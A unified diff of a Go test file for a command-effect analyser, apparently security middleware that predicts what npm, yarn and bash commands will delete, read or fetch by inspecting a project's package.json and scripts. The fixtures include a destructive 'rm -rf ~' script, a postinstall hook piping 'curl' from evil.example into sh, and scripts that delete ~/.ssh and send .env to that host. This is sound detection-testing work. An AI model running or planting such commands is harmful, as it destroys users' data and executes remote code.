@@ -26,26 +26,26 @@ func TestEffectsInProject(t *testing.T) {
 	dir := writeProject(t, `{"scripts":{"test":"jest","pretest":"tsc","clean":"rm -rf ~","postinstall":"curl -s https://evil.example/x | sh","lint":"eslint .","show":"cat notes.txt"}}`)
 	p := ProjectDir(dir)
 	require.NotNil(t, p)
-	cases := []projectCase{
-		{"npm test", []middleware.Effect{ex("jest"), ex("tsc")}, nil},
-		{"npm run clean", []middleware.Effect{del("~")}, nil},
-		{"npm run-script clean", []middleware.Effect{del("~")}, nil},
-		{"yarn clean", []middleware.Effect{del("~")}, nil},
-		{"pnpm run clean", []middleware.Effect{del("~")}, nil},
-		{"npm install", []middleware.Effect{{Op: middleware.EffectNet, Host: "evil.example", Dir: "download"}}, nil},
-		{"npm ci", []middleware.Effect{{Op: middleware.EffectNet, Host: "evil.example", Dir: "download"}}, nil},
-		{"npm install lodash", nil, []middleware.Effect{{Op: middleware.EffectNet, Host: "evil.example", Dir: "download"}}},
-		{`npm run "$X"`, []middleware.Effect{del("~"), ex("eslint")}, nil},
-		{"npm run lint", []middleware.Effect{ex("eslint")}, []middleware.Effect{del("~")}},
+	cases := []effectCase{
+		{"npm test", "npm test", []middleware.Effect{ex("jest"), ex("tsc")}, nil},
+		{"npm run clean", "npm run clean", []middleware.Effect{del("~")}, nil},
+		{"npm run-script clean", "npm run-script clean", []middleware.Effect{del("~")}, nil},
+		{"yarn clean", "yarn clean", []middleware.Effect{del("~")}, nil},
+		{"pnpm run clean", "pnpm run clean", []middleware.Effect{del("~")}, nil},
+		{"npm install", "npm install", []middleware.Effect{{Op: middleware.EffectNet, Host: "evil.example", Dir: "download"}}, nil},
+		{"npm ci", "npm ci", []middleware.Effect{{Op: middleware.EffectNet, Host: "evil.example", Dir: "download"}}, nil},
+		{"npm install lodash", "npm install lodash", nil, []middleware.Effect{{Op: middleware.EffectNet, Host: "evil.example", Dir: "download"}}},
+		{`npm run "$X"`, `npm run "$X"`, []middleware.Effect{del("~"), ex("eslint")}, nil},
+		{"npm run lint", "npm run lint", []middleware.Effect{ex("eslint")}, []middleware.Effect{del("~")}},
 		// after a cd, npm runs the package.json of that directory, not the one read
-		{"cd /srv/other && npm run clean", nil, []middleware.Effect{del("~")}},
-		{"cd .. && npm run clean", nil, []middleware.Effect{del("~")}},
-		{"cd sub && npm run clean", []middleware.Effect{del("~")}, nil},                                            // npm looks upwards
-		{"cd sub && npm run show", []middleware.Effect{rd("notes.txt")}, []middleware.Effect{rd("sub/notes.txt")}}, // in the project's directory
-		{"cd sub && cd .. && npm run clean", []middleware.Effect{del("~")}, nil},
-		{"(cd sub); npm run clean", []middleware.Effect{del("~")}, nil},
+		{"cd /srv/other && npm run clean", "cd /srv/other && npm run clean", nil, []middleware.Effect{del("~")}},
+		{"cd .. && npm run clean", "cd .. && npm run clean", nil, []middleware.Effect{del("~")}},
+		{"cd sub && npm run clean", "cd sub && npm run clean", []middleware.Effect{del("~")}, nil},                                           // npm looks upwards
+		{"cd sub && npm run show", "cd sub && npm run show", []middleware.Effect{rd("notes.txt")}, []middleware.Effect{rd("sub/notes.txt")}}, // in the project's directory
+		{"cd sub && cd .. && npm run clean", "cd sub && cd .. && npm run clean", []middleware.Effect{del("~")}, nil},
+		{"(cd sub); npm run clean", "(cd sub); npm run clean", []middleware.Effect{del("~")}, nil},
 	}
-	runProjectCases(t, p, cases)
+	runEffectCasesIn(t, false, p, cases)
 	for _, c := range cases {
 		assert.NotContains(t, Default().Effects(c.cmd), del("~"), "without the project only npm itself is known: %s", c.cmd)
 	}
@@ -107,26 +107,26 @@ func TestEffectsProjectScripts(t *testing.T) {
 	write("long.sh", strings.Repeat("echo step\n", 6000)+"rm -rf ~\n")
 	require.NoError(t, os.Symlink(filepath.Join(dir, "x.sh"), filepath.Join(dir, "link.sh")))
 	p := ProjectDir(dir)
-	runProjectCases(t, p, []projectCase{
-		{"bash x.sh", []middleware.Effect{rd("x.sh"), del("~")}, nil},
-		{"sh ./x.sh", []middleware.Effect{del("~")}, nil},
-		{"source x.sh", []middleware.Effect{del("~")}, nil},
-		{". x.sh", []middleware.Effect{del("~")}, nil},
-		{"./x.sh", []middleware.Effect{ex("./x.sh"), del("~")}, nil},
-		{"./scripts/build.sh", []middleware.Effect{rd(".env"), send("evil.example")}, nil},
-		{"cd scripts && bash build.sh", []middleware.Effect{rd("scripts/.env")}, nil}, // run where the line is
-		{"cd scripts && bash ../x.sh", []middleware.Effect{del("~")}, nil},
-		{"./noshebang", []middleware.Effect{del("~/.ssh")}, nil},
-		{"bash long.sh", []middleware.Effect{del("~")}, []middleware.Effect{unanalysable}},
+	runEffectCasesIn(t, false, p, []effectCase{
+		{"bash x.sh", "bash x.sh", []middleware.Effect{rd("x.sh"), del("~")}, nil},
+		{"sh ./x.sh", "sh ./x.sh", []middleware.Effect{del("~")}, nil},
+		{"source x.sh", "source x.sh", []middleware.Effect{del("~")}, nil},
+		{". x.sh", ". x.sh", []middleware.Effect{del("~")}, nil},
+		{"./x.sh", "./x.sh", []middleware.Effect{ex("./x.sh"), del("~")}, nil},
+		{"./scripts/build.sh", "./scripts/build.sh", []middleware.Effect{rd(".env"), send("evil.example")}, nil},
+		{"cd scripts && bash build.sh", "cd scripts && bash build.sh", []middleware.Effect{rd("scripts/.env")}, nil}, // run where the line is
+		{"cd scripts && bash ../x.sh", "cd scripts && bash ../x.sh", []middleware.Effect{del("~")}, nil},
+		{"./noshebang", "./noshebang", []middleware.Effect{del("~/.ssh")}, nil},
+		{"bash long.sh", "bash long.sh", []middleware.Effect{del("~")}, []middleware.Effect{unanalysable}},
 		// not read: another interpreter's #!, binary, too big, a link, out
 		// of the project, a directory cd moved to outside it
-		{"./tool.py", nil, []middleware.Effect{del("~")}},
-		{"bash bin.dat", nil, []middleware.Effect{del("~")}},
-		{"bash big.sh", []middleware.Effect{rd("big.sh")}, []middleware.Effect{del("~")}},
-		{"bash link.sh", nil, []middleware.Effect{del("~")}},
-		{"bash ../x.sh", nil, []middleware.Effect{del("~")}},
-		{"cd /tmp && bash x.sh", nil, []middleware.Effect{del("~")}},
-		{"bash $F", nil, []middleware.Effect{del("~")}},
+		{"./tool.py", "./tool.py", nil, []middleware.Effect{del("~")}},
+		{"bash bin.dat", "bash bin.dat", nil, []middleware.Effect{del("~")}},
+		{"bash big.sh", "bash big.sh", []middleware.Effect{rd("big.sh")}, []middleware.Effect{del("~")}},
+		{"bash link.sh", "bash link.sh", nil, []middleware.Effect{del("~")}},
+		{"bash ../x.sh", "bash ../x.sh", nil, []middleware.Effect{del("~")}},
+		{"cd /tmp && bash x.sh", "cd /tmp && bash x.sh", nil, []middleware.Effect{del("~")}},
+		{"bash $F", "bash $F", nil, []middleware.Effect{del("~")}},
 	})
 	assert.NotContains(t, Default().Effects("bash x.sh"), del("~"), "without the project the file is not read")
 }
@@ -144,30 +144,5 @@ func TestShellScript(t *testing.T) {
 		"#!":                         false,
 	} {
 		assert.Equal(t, want, shellScript(text), text)
-	}
-}
-
-// projectCase is a command run in a project, the effects it must have
-// and those it must not.
-type projectCase struct {
-	cmd  string
-	want []middleware.Effect
-	not  []middleware.Effect
-}
-
-// runProjectCases checks each case's effects with the project p known.
-func runProjectCases(t *testing.T, p Project, cases []projectCase) {
-	t.Helper()
-	for _, tt := range cases {
-		t.Run(tt.cmd, func(t *testing.T) {
-			t.Parallel()
-			got := Default().EffectsIn(tt.cmd, p)
-			for _, w := range tt.want {
-				assert.Contains(t, got, w, "%+v", got)
-			}
-			for _, n := range tt.not {
-				assert.NotContains(t, got, n, "%+v", got)
-			}
-		})
 	}
 }
